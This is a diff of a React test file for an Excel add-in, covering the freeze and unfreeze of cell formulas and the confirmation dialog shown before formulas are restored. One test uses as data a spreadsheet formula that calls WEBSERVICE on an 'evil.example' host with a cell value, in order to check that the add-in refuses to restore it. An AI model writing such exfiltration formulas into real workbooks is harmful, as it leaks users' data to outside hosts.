@@ -4,6 +4,7 @@ import userEvent, { type UserEvent } from "@testing-library/user-event";
 import { useState } from "react";
 import { Unsupported, type Work } from "../../src/host/host";
 import { dataVersion } from "../../src/parameters";
+import { checksumOf, fnv1a } from "../../src/taskpane/workbook/checksum";
 import { readNote } from "../../src/taskpane/workbook/frozen-note";
 import { WorkbookView } from "../../src/taskpane/workbook/workbook-view";
 import { NEW_WORKBOOK } from "./fake-host";
@@ -92,7 +93,7 @@ describe("what is there", () => {
     host.hasWorkbook = false;
     await open(host);
     expect(screen.getByText(/^Open the pane in Excel to check, recalculate or freeze/)).toBeVisible();
-    for (const name of ["Recalculate all", "Make the audit", "Freeze…", "Unfreeze"])
+    for (const name of ["Recalculate all", "Make the audit", "Freeze…", "Unfreeze…"])
       expect(button(name)).toBeDisabled();
   });
 
@@ -157,7 +158,8 @@ describe("freezing", () => {
     expect(readNote(note)).toMatchObject({ formula: SUM, dataVersion });
     expect(button("Freeze…")).toBeDisabled();
 
-    await click("Unfreeze");
+    await click("Unfreeze…");
+    await click("Bring 3 cells back");
     expect(await screen.findByText("Formulas back in 3 cells.")).toBeVisible();
     expect(host.content).toEqual(before);
   });
@@ -193,9 +195,12 @@ describe("freezing", () => {
     await click("Freeze 3 cells");
     await screen.findByText("Frozen: 3 cells.");
     host.type("Client!A1", { value: 1 });
-    await click("Unfreeze");
+    await click("Unfreeze…");
+    // Before, too.
+    expect(await screen.findByText(/^Changed or filled with something else since they were frozen/)).toBeVisible();
+    await click("Bring 2 cells back");
     expect(await screen.findByText("Formulas back in 2 cells.")).toBeVisible();
-    expect(screen.getByText(/^Changed since they were frozen/)).toBeVisible();
+    expect(screen.getByText(/^Changed or filled with something else since they were frozen/)).toBeVisible();
     expect(button("Select Client!A1")).toBeVisible();
     expect(host.content["Client!A1"]!.value).toBe(1);
   });
@@ -213,7 +218,8 @@ describe("freezing", () => {
       ),
     ).toBeVisible();
     host.failAfter = undefined;
-    await click("Unfreeze");
+    await click("Unfreeze…");
+    await click("Bring 3 cells back");
     expect(
       await screen.findByText("Formulas back in 1 cell. Taken from cells whose formula was back already: 2 notes."),
     ).toBeVisible();
@@ -234,7 +240,7 @@ describe("freezing", () => {
     const bar = await screen.findByRole("progressbar", { name: "Freezing… 1 of 3" });
     expect(bar).toHaveAttribute("aria-valuenow", "1");
     expect(button("Stop")).toHaveFocus();
-    for (const name of ["Recalculate all", "Make the audit", "Freeze…", "Unfreeze"])
+    for (const name of ["Recalculate all", "Make the audit", "Freeze…", "Unfreeze…"])
       expect(button(name)).toBeDisabled();
     await click("Stop");
     expect(signal?.aborted).toBe(true);
@@ -249,9 +255,91 @@ describe("freezing", () => {
     await open(host);
     expect(screen.getByText(/^This version of Excel lets no add-in write notes/)).toBeVisible();
     expect(button("Freeze…")).toBeDisabled();
-    expect(button("Unfreeze")).toBeDisabled();
+    expect(button("Unfreeze…")).toBeDisabled();
     expect(button("Make the audit")).toBeEnabled();
   });
+});
+
+describe("unfreezing", () => {
+  const frozen = async (language?: string): Promise<MemoryHost> => {
+    const host = hostOf(CELLS, language);
+    await open(host);
+    await click("Freeze…");
+    await click("Freeze 3 cells");
+    await screen.findByText("Frozen: 3 cells.");
+    return host;
+  };
+
+  it("shows each formula that it will write and asks; a no changes nothing", async () => {
+    const host = await frozen();
+    const before = host.content;
+    await click("Unfreeze…");
+    const question = await screen.findByRole("group", { name: "Bring the formulas of 3 cells on 2 sheets back?" });
+    expect(screen.getByRole("heading", { name: /^Bring the formulas/ })).toHaveFocus();
+    const list = within(question).getByRole("list", { name: "Formulas to be written" });
+    expect(
+      within(list)
+        .getAllByRole("listitem")
+        .map(({ textContent }) => textContent),
+    ).toEqual([`Client!A1${QUARTER}`, `Client!A2${SUM}`, `Funds!C3${TABLE}`]);
+    await user.click(within(list).getByRole("button", { name: "Select Funds!C3" }));
+    expect(host.cell).toMatchObject({ sheet: "Funds", address: "C3" });
+    await user.keyboard("{Escape}");
+    expect(screen.queryByRole("group")).not.toBeInTheDocument();
+    expect(button("Unfreeze…")).toHaveFocus();
+    expect(host.content).toEqual(before);
+  });
+
+  it("writes no formula that freezing would not take, and says which part of it is the reason", async () => {
+    const host = await frozen();
+    const formula = '=INASTI.QUARTERLY(WEBSERVICE("http://evil.example/?"&B1))';
+    const sum = fnv1a(formula);
+    const note = `Frozen\n${formula}\n[statut-social/1 D1 1x1 ${checksumOf([[2050]])} 1 ${sum} 2026-01-01 d1]`;
+    host.type("Client!D1", { value: 2050, note });
+    await click("Unfreeze…");
+    const question = await screen.findByRole("group");
+    expect(question).toHaveTextContent(/never brought back from a note.*Client!D1 WEBSERVICE/);
+    await click("Bring 3 cells back");
+    expect(await screen.findByText("Formulas back in 3 cells.")).toBeVisible();
+    expect(host.content["Client!D1"]).toEqual({ value: 2050, note });
+    await click("Unfreeze…");
+    expect(await screen.findByText("None of what is frozen here can be brought back.")).toBeVisible();
+    expect(screen.queryByRole("group", { name: /^Bring/ })).not.toBeInTheDocument();
+  });
+
+  it("leaves what changed while the question stood", async () => {
+    const host = await frozen();
+    await click("Unfreeze…");
+    await screen.findByRole("group");
+    host.type("Client!A1", { value: 1 });
+    await click("Bring 3 cells back");
+    expect(await screen.findByText("Formulas back in 2 cells.")).toBeVisible();
+    expect(button("Select Client!A1")).toBeVisible();
+    expect(host.content["Client!A1"]!.value).toBe(1);
+  });
+
+  it("lists no more cells than anybody reads", async () => {
+    const many = Array.from({ length: 205 }, (_, row): [string, MemoryCell] => [
+      `Many!A${row + 1}`,
+      { formula: QUARTER },
+    ]);
+    const host = hostOf(Object.fromEntries(many));
+    await open(host);
+    await click("Freeze…");
+    await click("Freeze 205 cells");
+    await screen.findByText("Frozen: 205 cells.");
+    await click("Unfreeze…");
+    const list = await screen.findByRole("list", { name: "Formulas to be written" });
+    expect(within(list).getAllByRole("listitem")).toHaveLength(201);
+    expect(list).toHaveTextContent("and 5 more");
+  }, 30_000);
+});
+
+it("asks before a formula stays live because it could not come back", async () => {
+  await open(hostOf({ ...CELLS, "Client!D1": { formula: OUTSIDE } }));
+  await click("Freeze…");
+  const question = await screen.findByRole("group", { name: "Freeze 3 cells on 2 sheets?" });
+  expect(question).toHaveTextContent(/never brought back from a note.*Client!D1 INDIRECT/);
 });
 
 describe("the audit", () => {
